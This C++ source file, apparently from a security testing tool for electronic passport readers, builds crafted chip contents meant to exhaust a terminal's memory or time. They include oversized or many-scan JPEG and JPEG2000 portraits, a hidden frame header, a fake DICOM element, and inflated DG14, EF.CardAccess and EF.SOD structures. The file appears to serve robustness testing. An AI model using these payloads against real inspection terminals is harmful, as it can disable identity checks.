// Small files that make much work: what a terminal that follows them would need in memory or time (ICAO 9303-10 section
// 3.6 and 4.7.2, 9303-11 section 9.2). Each has the form that its standard asks for.
#include <algorithm>

#include "attacks/document/mechanisms.hpp"
#include "common/asn1/der.hpp"
#include "common/emrtd/lds.hpp"
#include "common/emrtd/tlv.hpp"

namespace proofmark::attacks::document {
namespace {

using card::ChipContent;

Bytes repeated(ByteView one, std::size_t times) {
  Bytes all;
  all.reserve(one.size() * times);
  for (std::size_t i = 0; i < times; ++i) all.insert(all.end(), one.begin(), one.end());
  return all;
}

Result<ChipContent> with_portrait(ChipContent content, Bytes image, emrtd::ImageFormat format) {
  PROOFMARK_TRY(content.files[card::kEfDg2], emrtd::encode_dg2({std::move(image), format, 413, 531}));
  return content;
}

// ITU-T T.81: a frame header (SOF2) of one component.
Bytes frame(std::uint16_t width, std::uint16_t height) {
  const auto side = [](std::uint16_t pixels) {
    return Bytes{static_cast<std::uint8_t>(pixels >> 8U), static_cast<std::uint8_t>(pixels & 0xFFU)};
  };
  return concat({Bytes{0xFF, 0xC2, 0x00, 0x0B, 0x08}, side(height), side(width), Bytes{0x01, 0x01, 0x11, 0x00}});
}

// A progressive JPEG with these headers and the shortest Huffman tables that there are.
Bytes progressive(ByteView headers, std::size_t scans) {
  const Bytes quantisation = concat({Bytes{0xFF, 0xDB, 0x00, 0x43, 0x00}, Bytes(64, 1)});
  const auto table = [](std::uint8_t which) {
    return concat({Bytes{0xFF, 0xC4, 0x00, 0x14, which, 0x01}, Bytes(15, 0), Bytes{0x00}});
  };
  // The first coefficient, then the 63 others again and again: each scan goes over every block of the picture.
  const Bytes first{0xFF, 0xDA, 0x00, 0x08, 0x01, 0x01, 0x00, 0x00, 0x00, 0x00, 0x00};
  const Bytes next{0xFF, 0xDA, 0x00, 0x08, 0x01, 0x01, 0x00, 0x01, 0x3F, 0x00, 0x00};
  return concat({Bytes{0xFF, 0xD8}, headers, quantisation, table(0x00), table(0x10), first, repeated(next, scans - 1),
                 Bytes{0xFF, 0xD9}});
}

// A marker without a length (TEM), and behind it the frame header that a decoder finds. Who takes the two bytes between
// them for a length lands on the other one, inside application data.
Result<ChipContent> hidden_frame_dg2(ChipContent content, const card::Personalisation&, RandomSource&) {
  const Bytes headers =
      concat({Bytes{0xFF, 0x01, 0x00, 0x13}, frame(20000, 20000), Bytes{0xFF, 0xE1, 0x00, 0x0F}, frame(413, 531)});
  return with_portrait(std::move(content), progressive(headers, 1), emrtd::ImageFormat::jpeg);
}

Result<ChipContent> many_scans_dg2(ChipContent content, const card::Personalisation&, RandomSource&) {
  return with_portrait(std::move(content), progressive(frame(1400, 1400), 20000), emrtd::ImageFormat::jpeg);
}

// 200 pixels wide, so that who pads it to the shape of a picture needs gigabytes.
Result<ChipContent> strip_dg2(ChipContent content, const card::Personalisation&, RandomSource&) {
  return with_portrait(std::move(content), progressive(frame(200, 20000), 1), emrtd::ImageFormat::jpeg);
}

// A code stream (ITU-T T.800 annex A): its beginning for a square of one tile in three components, with this COD.
Bytes code_stream_head(std::uint16_t pixels, ByteView coding) {
  const Bytes side{0x00, 0x00, static_cast<std::uint8_t>(pixels >> 8U), static_cast<std::uint8_t>(pixels & 0xFFU)};
  const Bytes zero(4, 0), component{0x07, 0x01, 0x01};
  return concat({Bytes{0xFF, 0x4F, 0xFF, 0x51, 0x00, 0x2F, 0x00, 0x00}, side, side, zero, zero, side, side, zero, zero,
                 Bytes{0x00, 0x03}, component, component, component, coding,
                 Bytes{0xFF, 0x5C, 0x00, 0x07, 0x40, 0x40, 0x48, 0x48, 0x50}});
}

// Its one tile of zeros, and the end.
Bytes empty_tile() {
  return concat({Bytes{0xFF, 0x90, 0x00, 0x0A, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x01, 0xFF, 0x93},
                 Bytes(4000, 0), Bytes{0xFF, 0xD9}});
}

// A code stream of 1,400 x 1,400 pixels that is cut into as many pieces as can be written down: precincts of 1 x 1 and
// 2 x 2 samples, code blocks of 4 x 4, 65,535 layers.
Result<ChipContent> many_pieces_dg2(ChipContent content, const card::Personalisation&, RandomSource&) {
  const Bytes coding{0xFF, 0x52, 0x00, 0x0E, 0x01, 0x00, 0xFF, 0xFF, 0x01, 0x01, 0x00, 0x00, 0x00, 0x01, 0x00, 0x11};
  Bytes image = concat({code_stream_head(1400, coding), empty_tile()});
  return with_portrait(std::move(content), std::move(image), emrtd::ImageFormat::jpeg2000);
}

// A code stream whose comment says at byte 128 that it is a file of DICOM (part 10 section 7.1), with an element of 4
// GiB.
Result<ChipContent> dicom_dg2(ChipContent content, const card::Personalisation&, RandomSource&) {
  const Bytes coding{0xFF, 0x52, 0x00, 0x0C, 0x00, 0x00, 0x00, 0x01, 0x01, 0x01, 0x04, 0x04, 0x00, 0x01};
  const Bytes element{0x5C, 0x13, 0x40, 0x3F, 'O', 'B', 0x00, 0x00, 0xF0, 0xFF, 0xFF, 0xFF};
  const Bytes before = code_stream_head(400, coding);
  const Bytes comment = concat({Bytes{0x00, 0x01}, Bytes(128 - before.size() - 6, 0x20), to_bytes("DICM"), element});
  const Bytes told{0xFF, 0x64, 0x00, static_cast<std::uint8_t>(comment.size() + 2)};
  Bytes image = concat({before, told, comment, empty_tile()});
  return with_portrait(std::move(content), std::move(image), emrtd::ImageFormat::jpeg2000);
}

// Keys and methods that could each belong together: whoever tries every pair computes on a curve for each.
Result<ChipContent> many_keys_dg14(ChipContent content, const card::Personalisation&, RandomSource&) {
  PROOFMARK_TRY(emrtd::SecurityInfos infos, emrtd::parse_dg14(content.files[card::kEfDg14]));
  if (infos.chip_authentication_keys.empty() || infos.chip_authentication.empty())
    return unusable("chip authentication in DG14");
  infos.chip_authentication_keys.resize(300, infos.chip_authentication_keys.front());
  infos.chip_authentication.resize(600, infos.chip_authentication.front());
  PROOFMARK_TRY(content.files[card::kEfDg14], emrtd::encode_dg14(infos));
  return content;
}

Result<ChipContent> many_offers_card_access(ChipContent content, const card::Personalisation&, RandomSource&) {
  Bytes& file = content.master_file[card::kEfCardAccess];
  PROOFMARK_TRY(emrtd::SecurityInfos infos, emrtd::parse_security_infos(file));
  if (infos.pace.empty()) return unusable("PACE in EF.CardAccess");
  infos.pace.resize(3000, infos.pace.front());
  PROOFMARK_TRY(file, emrtd::encode_security_infos(infos));
  return content;
}

// EF.SOD with something else in the place of each field of its SignedData: `change` is given the field and whether it
// is the last one, the signers'.
template <typename Change>
Result<Bytes> with_signed_data(ByteView file, Change change) {
  PROOFMARK_TRY(const Bytes cms, emrtd::parse_sod(file));
  PROOFMARK_TRY(const ByteView info, asn1::read_whole(cms, asn1::kSequence));
  asn1::Reader outer(info);
  PROOFMARK_TRY(const asn1::Element type, outer.next(asn1::kObjectIdentifier));
  PROOFMARK_TRY(const asn1::Element tagged, outer.next(asn1::context(0)));
  PROOFMARK_TRY(const ByteView signed_data, asn1::read_whole(tagged.content, asn1::kSequence));
  asn1::Reader inner(signed_data);
  Bytes fields;
  while (!inner.at_end()) {
    PROOFMARK_TRY(const asn1::Element field, inner.next());
    PROOFMARK_TRY(const Bytes written, change(field, inner.at_end()));
    fields.insert(fields.end(), written.begin(), written.end());
  }
  return emrtd::encode_sod(
      asn1::sequence({type.whole, asn1::encode(asn1::context(0), asn1::encode(asn1::kSequence, fields))}));
}

// No signature covers the certificates of a SignedData (RFC 5652 section 5.4): anybody can add to them. Each is tried
// by a terminal that looks for the signer's.
Result<ChipContent> many_certificates_sod(ChipContent content, const card::Personalisation&, RandomSource&) {
  Bytes& file = content.files[card::kEfSod];
  bool found = false;
  PROOFMARK_TRY(file, with_signed_data(file, [&](const asn1::Element& field, bool) -> Result<Bytes> {
                  if (field.tag != asn1::context(0)) return Bytes(field.whole.begin(), field.whole.end());
                  found = true;
                  return asn1::encode(field.tag, repeated(field.content, 60));
                }));
  if (!found) return unusable("a certificate in EF.SOD");
  return content;
}

// Longer than any: a file of structures becomes tens of times its bytes when it is parsed. Nothing else is wrong with
// this one: it has an attribute beside those that are signed (RFC 5652 section 5.3).
Result<ChipContent> long_sod(ChipContent content, const card::Personalisation&, RandomSource&) {
  Bytes& file = content.files[card::kEfSod];
  const Bytes attribute =
      asn1::sequence({asn1::oid("2.23.136.1.1.6.77"), asn1::set_of({asn1::octet_string(Bytes(100000, 0))})});
  PROOFMARK_TRY(file, with_signed_data(file, [&](const asn1::Element& field, bool last) -> Result<Bytes> {
                  if (!last) return Bytes(field.whole.begin(), field.whole.end());
                  PROOFMARK_TRY(const ByteView signer, asn1::read_whole(field.content, asn1::kSequence));
                  return asn1::set_of({asn1::sequence({signer, asn1::encode(asn1::context(1), attribute)})});
                }));
  return content;
}

}  // namespace

std::map<std::string, ContentFault> cost_faults() {
  return {{"dicom_dg2", dicom_dg2},
          {"hidden_frame_dg2", hidden_frame_dg2},
          {"many_scans_dg2", many_scans_dg2},
          {"strip_dg2", strip_dg2},
          {"many_pieces_dg2", many_pieces_dg2},
          {"many_keys_dg14", many_keys_dg14},
          {"many_offers_card_access", many_offers_card_access},
          {"many_certificates_sod", many_certificates_sod},
          {"long_sod", long_sod}};
}

}  // namespace proofmark::attacks::document
